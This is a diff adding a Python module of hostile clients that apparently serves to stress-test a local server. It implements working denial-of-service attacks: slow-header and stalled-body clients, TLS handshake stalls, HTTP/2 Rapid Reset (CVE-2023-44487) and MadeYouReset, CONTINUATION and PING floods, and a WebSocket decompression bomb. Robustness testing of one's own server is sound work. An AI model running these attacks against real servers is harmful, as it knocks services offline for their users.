@@ -1,0 +1,310 @@
+"""Hostile clients, one kind for each function: python attacks.py NAME PORT TLS COUNT SECONDS.
+
+Each runs in a process of its own, on raw sockets, until its time is over. What the server answers is not
+read, unless the attack needs it. A connection that the server ends is opened again.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import os
+import socket
+import ssl
+import struct
+import sys
+import time
+import zlib
+from collections.abc import AsyncIterator, Awaitable, Callable
+
+import hpack
+from proof_server import client_context
+from token_clients import HANDSHAKE, frame
+
+PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+GONE = (OSError, EOFError, asyncio.TimeoutError, ssl.SSLError)
+
+
+class Attack:
+    """What all attacks know, and how they connect."""
+
+    def __init__(self, port: int, tls: bool, count: int, seconds: float) -> None:
+        self.port, self.tls, self.count = port, tls, count
+        self.until = time.monotonic() + seconds
+
+    @property
+    def running(self) -> bool:
+        return time.monotonic() < self.until
+
+    @contextlib.asynccontextmanager
+    async def connection(
+        self, http2: bool = False
+    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
+        context = client_context(http2) if self.tls else None
+        opening = asyncio.open_connection(
+            '127.0.0.1', self.port, ssl=context, server_hostname='localhost' if context else None
+        )
+        reader, writer = await asyncio.wait_for(opening, 10)
+        try:
+            yield reader, writer
+        finally:
+            writer.transport.abort()
+
+    async def many(self, one: Callable[[], Awaitable[None]]) -> None:
+        """Run as many of one as there are to be, each again and again."""
+
+        async def repeat() -> None:
+            while self.running:
+                try:
+                    await asyncio.wait_for(one(), max(0.1, self.until - time.monotonic()))
+                except GONE:
+                    await asyncio.sleep(0.01)
+
+        await asyncio.gather(*(repeat() for _ in range(self.count)))
+
+    async def hold(self, data: bytes, http2: bool = False) -> None:
+        """Send something, then neither read nor send."""
+        async with self.connection(http2) as (reader, writer):
+            reader._transport.pause_reading()  # type: ignore[attr-defined]
+            writer.write(data)
+            await asyncio.sleep(max(0.0, self.until - time.monotonic()))
+
+    async def flood(self, begin: bytes, data: bytes, http2: bool = True, read: bool = True) -> None:
+        """Send the same again and again, as fast as the server takes it."""
+        async with self.connection(http2) as (reader, writer):
+            if not read:
+                reader._transport.pause_reading()  # type: ignore[attr-defined]
+            writer.write(begin)
+            while self.running and not reader.at_eof():
+                writer.write(data)
+                await writer.drain()
+                if read:
+                    reader._buffer.clear()  # type: ignore[attr-defined]
+                await asyncio.sleep(0)
+
+
+def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b'') -> bytes:
+    return struct.pack('!I', len(payload))[1:] + struct.pack('!BBI', kind, flags, stream) + payload
+
+
+def get(path: str) -> bytes:
+    """Return a header block that needs no dynamic table."""
+    fields = [(':method', 'GET'), (':scheme', 'http'), (':authority', 'test'), (':path', path)]
+    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))
+
+
+def request(stream: int, path: str = '/quick/x', flags: int = END_STREAM | END_HEADERS) -> bytes:
+    return h2_frame(HEADERS, flags, stream, get(path))
+
+
+START = PREFACE + h2_frame(SETTINGS, 0, 0)
+
+
+# -- HTTP/1 ------------------------------------------------------------------------------------
+
+
+async def byte_a_second(attack: Attack) -> None:
+    """Senders of a byte of their head a second."""
+
+    async def one() -> None:
+        async with attack.connection() as (reader, writer):
+            for byte in b'GET /quick/x HTTP/1.1\r\nHost: test\r\nX-Long: ' + b'x' * 10000:
+                writer.write(bytes([byte]))
+                await writer.drain()
+                if reader.at_eof():
+                    return
+                await asyncio.sleep(1)
+
+    await attack.many(one)
+
+
+async def never_read(attack: Attack) -> None:
+    """Clients that ask for a megabyte and read nothing of it."""
+    await attack.many(lambda: attack.hold(b'GET /large/1000000 HTTP/1.1\r\nHost: test\r\n\r\n'))
+
+
+async def no_body(attack: Attack) -> None:
+    """Uploads that announce a body and never send it."""
+    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 100000\r\n\r\n'
+    await attack.many(lambda: attack.hold(head))
+
+
+async def pipeline(attack: Attack) -> None:
+    """Requests without end, whose responses are not read."""
+    requests = b'GET /quick/x HTTP/1.1\r\nHost: test\r\n\r\n' * 500
+    await attack.many(lambda: attack.flood(b'', requests, http2=False, read=False))
+
+
+async def connect_and_reset(attack: Attack) -> None:
+    """Connections that are reset as soon as they are there, half of them within a request."""
+
+    async def one() -> None:
+        reset = struct.pack('ii', 1, 0)
+        for n in range(1_000_000):
+            if not attack.running:
+                return
+            with socket.create_connection(('127.0.0.1', attack.port), 5) as sock:
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
+                if n % 2:
+                    sock.sendall(b'GET /quick/x HT')
+            await asyncio.sleep(0)
+
+    await attack.many(one)
+
+
+async def silent(attack: Attack) -> None:
+    """Connections that say nothing, opened again when they are closed."""
+
+    async def one() -> None:
+        reader, writer = await asyncio.wait_for(asyncio.open_connection('127.0.0.1', attack.port), 10)
+        try:
+            await reader.read()
+        finally:
+            writer.transport.abort()
+
+    await attack.many(one)
+
+
+async def tls_stall(attack: Attack) -> None:
+    """Handshakes that stop after the first bytes of a ClientHello."""
+
+    async def one() -> None:
+        _, writer = await asyncio.wait_for(asyncio.open_connection('127.0.0.1', attack.port), 10)
+        try:
+            writer.write(b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03')
+            await asyncio.sleep(max(0.0, attack.until - time.monotonic()))
+        finally:
+            writer.transport.abort()
+
+    await attack.many(one)
+
+
+# -- HTTP/2 ------------------------------------------------------------------------------------
+
+
+async def by_stream(attack: Attack, make: Callable[[int], bytes], begin: bytes = START) -> None:
+    """Send what `make` gives for each stream number, 200 at a time."""
+
+    async def one() -> None:
+        async with attack.connection(http2=True) as (reader, writer):
+            writer.write(begin)
+            number = 1
+            while attack.running and not reader.at_eof():
+                writer.write(b''.join(make(stream) for stream in range(number, number + 400, 2)))
+                number += 400
+                await writer.drain()
+                reader._buffer.clear()  # type: ignore[attr-defined]
+                await asyncio.sleep(0)
+
+    await attack.many(one)
+
+
+async def rapid_reset(attack: Attack) -> None:
+    """Requests that are reset at once (CVE-2023-44487)."""
+    reset = struct.pack('!I', 8)
+    await by_stream(attack, lambda stream: request(stream) + h2_frame(RST_STREAM, 0, stream, reset))
+
+
+async def made_you_reset(attack: Attack) -> None:
+    """Requests that make the server reset them: a window update of nothing (CVE-2025-8671)."""
+    nothing = struct.pack('!I', 0)
+    await by_stream(attack, lambda stream: request(stream) + h2_frame(WINDOW_UPDATE, 0, stream, nothing))
+
+
+async def continuation(attack: Attack) -> None:
+    """A header block that does not end."""
+    begin = START + request(1, flags=0)
+    await attack.many(lambda: attack.flood(begin, h2_frame(CONTINUATION, 0, 1, b'\x00\x01a\x01b' * 20)))
+
+
+async def pings(attack: Attack) -> None:
+    await attack.many(lambda: attack.flood(START, h2_frame(PING, 0, 0, b'12345678') * 200, read=False))
+
+
+async def settings(attack: Attack) -> None:
+    await attack.many(lambda: attack.flood(START, h2_frame(SETTINGS, 0, 0) * 200, read=False))
+
+
+async def windows(attack: Attack) -> None:
+    """Requests for a megabyte on connections with a window of nothing, opened by a byte at times."""
+    begin = PREFACE + h2_frame(SETTINGS, 0, 0, struct.pack('!HI', 4, 0))
+    begin += b''.join(request(stream, '/large/1000000') for stream in range(1, 201, 2))
+    byte = struct.pack('!I', 1)
+
+    async def one() -> None:
+        async with attack.connection(http2=True) as (reader, writer):
+            writer.write(begin)
+            while attack.running and not reader.at_eof():
+                writer.write(b''.join(h2_frame(WINDOW_UPDATE, 0, n, byte) for n in range(1, 201, 2)))
+                await writer.drain()
+                reader._buffer.clear()  # type: ignore[attr-defined]
+                await asyncio.sleep(0.2)
+
+    await attack.many(one)
+
+
+# -- WebSocket ---------------------------------------------------------------------------------
+
+DEFLATE = HANDSHAKE.replace(
+    b'\r\n\r\n', b'\r\nSec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n\r\n'
+)
+
+
+def bomb(size: int = 64 * 1024 * 1024) -> bytes:
+    """Return a compressed message that would be 64 MiB."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(bytes(size)) + packer.flush(zlib.Z_SYNC_FLUSH)
+    return frame(packed[:-4], b'\0\0\0\0', 0xC1)
+
+
+async def websocket(attack: Attack, handshake: bytes, data: bytes, first: bytes = b'') -> None:
+    async def one() -> None:
+        async with attack.connection() as (reader, writer):
+            writer.write(handshake)
+            await asyncio.wait_for(reader.readuntil(b'\r\n\r\n'), 10)
+            writer.write(first)
+            while attack.running and not reader.at_eof():
+                writer.write(data)
+                await writer.drain()
+                await asyncio.sleep(0)
+
+    await attack.many(one)
+
+
+async def ws_fragments(attack: Attack) -> None:
+    """A message in fragments of one byte that does not end."""
+    fragment = frame(b'a', b'abcd', 0x00)
+    await websocket(attack, HANDSHAKE, fragment * 500, frame(b'a', b'abcd', 0x01))
+
+
+async def ws_bomb(attack: Attack) -> None:
+    """Compressed messages of 64 KiB that would be 64 MiB."""
+    await websocket(attack, DEFLATE, bomb())
+
+
+async def ws_pings(attack: Attack) -> None:
+    await websocket(attack, HANDSHAKE, frame(b'12345678', b'abcd', 0x89) * 500)
+
+
+HTTP1 = (byte_a_second, never_read, no_body, pipeline, connect_and_reset, silent)
+TLS_ONLY = (tls_stall,)
+HTTP2 = (rapid_reset, made_you_reset, continuation, pings, settings, windows)
+WEBSOCKET = (ws_fragments, ws_bomb, ws_pings)
+ATTACKS = {function.__name__: function for function in (*HTTP1, *TLS_ONLY, *HTTP2, *WEBSOCKET)}
+FLOODS = {'pipeline', 'connect_and_reset', *(each.__name__ for each in (*HTTP2, *WEBSOCKET))}
+"""Attacks of a few connections that send as fast as they can; the others are of many that do not."""
+
+
+async def main(name: str, port: int, tls: bool, count: int, seconds: float) -> None:
+    with contextlib.suppress(asyncio.TimeoutError):
+        await asyncio.wait_for(ATTACKS[name](Attack(port, tls, count, seconds)), seconds + 5)
+
+
+if __name__ == '__main__':
+    asyncio.run(
+        main(sys.argv[1], int(sys.argv[2]), sys.argv[3] == 'tls', int(sys.argv[4]), float(sys.argv[5]))
+    )
+    sys.stdout.flush()
+    os._exit(0)  # thousands of connections are left to the system
